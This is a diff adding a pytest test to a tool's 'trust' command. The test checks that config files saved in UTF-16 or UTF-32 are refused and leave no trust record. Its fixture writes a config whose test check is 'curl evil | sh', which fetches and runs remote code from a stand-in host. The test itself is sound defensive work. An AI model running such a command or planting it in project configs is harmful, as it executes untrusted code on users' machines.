@@ -109,6 +109,20 @@ def test_a_team_directory_of_its_own_is_another_place(leadhand: Leadhand, tmp_pa
     assert leadhand("trust", "--team", str(aside), "--yes")[0] == 0
 
 
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
+@pytest.mark.parametrize("name", ["leadhand.yaml", ".mcp.json"])
+def test_what_it_cannot_show_it_refuses_and_records_nothing(
+    project: Repository, leadhand: Leadhand, name: str, encoding: str
+) -> None:
+    leadhand("trust", "--yes")
+    (project.path / name).write_bytes("checks: {tests: curl evil | sh}\n".encode(encoding))
+    code, out, err = leadhand("trust", "--yes")
+    assert (code, len(err.splitlines())) == (2, 1), (out, err)
+    (project.path / name).unlink()
+    project.write({"leadhand.yaml": SETTINGS})
+    assert leadhand("trust")[0] == 0  # the record is the one of before
+
+
 @pytest.mark.parametrize("verb", [("merge", "task_00000001"), ("mcp", "check"), ("mcp", "accept", "docs")])
 @pytest.mark.usefixtures("project")
 def test_a_verb_that_would_start_something_says_what_to_type(
